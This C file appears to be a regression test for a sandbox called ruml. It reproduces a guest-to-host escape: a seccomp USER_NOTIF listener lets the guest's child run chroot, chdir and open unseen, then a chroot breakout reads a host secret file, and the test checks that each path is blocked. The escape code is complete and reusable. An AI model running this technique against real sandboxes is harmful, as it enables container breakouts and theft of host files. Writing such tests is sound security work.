/* Finding 1 of the isolation issue: a guest filter returning
 * SECCOMP_RET_USER_NOTIF outranks ruml's SECCOMP_RET_TRACE. With a
 * listener of its own, a guest process answered its child's chroot,
 * chdir, mkdir and open with SECCOMP_USER_NOTIF_FLAG_CONTINUE: they ran
 * on the host unseen by ruml, and `chroot .. x32` left the VM.
 * Usage: seccomp_listener HOST_SECRET_PATH (the escape also tries to
 * create HOST_SECRET_PATH.out) */
#include "escape.h"
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define NR_IS(n, ret) \
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (n), 0, 1), BPF_STMT(BPF_RET | BPF_K, (ret))

static struct sock_filter prog[] = {
    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
    NR_IS(SYS_chroot, SECCOMP_RET_USER_NOTIF),
    NR_IS(SYS_chdir, SECCOMP_RET_USER_NOTIF),
    NR_IS(SYS_mkdir, SECCOMP_RET_USER_NOTIF),
    NR_IS(SYS_openat, SECCOMP_RET_USER_NOTIF),
    NR_IS(SYS_open, SECCOMP_RET_USER_NOTIF),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
};
static struct sock_fprog fprog = {sizeof(prog) / sizeof(prog[0]), prog};

/* The escape itself: out of any chroot, then the host's secret. */
static int try_escape(const char *secret)
{
    mkdir("/.esc", 0700);
    if (chroot("/.esc") == 0) {
        for (int i = 0; i < 32; i++)
            chdir("..");
        chroot(".");
    }
    char out[4096];
    snprintf(out, sizeof out, "%s.out", secret);
    int w = open(out, O_CREAT | O_WRONLY, 0644);
    if (w >= 0)
        printf("created %s\n", out);
    int fd = open(secret, O_RDONLY);
    if (fd < 0)
        return w >= 0;
    char buf[128] = {0};
    ssize_t n = read(fd, buf, sizeof buf - 1);
    printf("read host secret: %.*s\n", (int)(n > 0 ? n : 0), buf);
    return 1;
}

int main(int argc, char **argv)
{
    if (argc < 2)
        return 2;
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);

    /* 1. A filter with a listener of the guest's own. */
    pid_t pid = fork();
    if (pid == 0) {
        long l = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
                         SECCOMP_FILTER_FLAG_NEW_LISTENER, &fprog);
        expect_fail("seccomp listener", l);
        if (l < 0)
            _exit(0);
        /* It was installed: play the attacker to the end. */
        pid_t child = fork();
        if (child == 0)
            _exit(try_escape(argv[1]) ? 99 : 0);
        for (;;) {
            struct pollfd p = {.fd = (int)l, .events = POLLIN};
            if (poll(&p, 1, 200) <= 0) {
                int st;
                if (waitpid(child, &st, WNOHANG) == child) {
                    report("listener escape", WEXITSTATUS(st) == 99, "child done");
                    _exit(0);
                }
                continue;
            }
            struct seccomp_notif req = {0};
            struct seccomp_notif_resp resp = {0};
            if (ioctl((int)l, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
                continue;
            resp.id = req.id;
            resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
            ioctl((int)l, SECCOMP_IOCTL_NOTIF_SEND, &resp);
        }
    }
    waitpid(pid, NULL, 0);

    /* 2. USER_NOTIF without a listener: the calls must not run at all. */
    pid = fork();
    if (pid == 0) {
        if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &fprog) != 0) {
            report("seccomp filter without listener", 1, strerror(errno));
            _exit(0);
        }
        expect_fail("mkdir under a listenerless USER_NOTIF", mkdir("/.esc2", 0700));
        struct stat st;
        report("mkdir did not run", stat("/.esc2", &st) == 0, "checked with stat");
        expect_fail("chroot under a listenerless USER_NOTIF", chroot("/"));
        report("escape without listener", try_escape(argv[1]), "open of the host path");
        _exit(0);
    }
    waitpid(pid, NULL, 0);

    /* 3. The same escape with no filter at all. */
    report("plain escape", try_escape(argv[1]), "open of the host path");
    return 0;
}
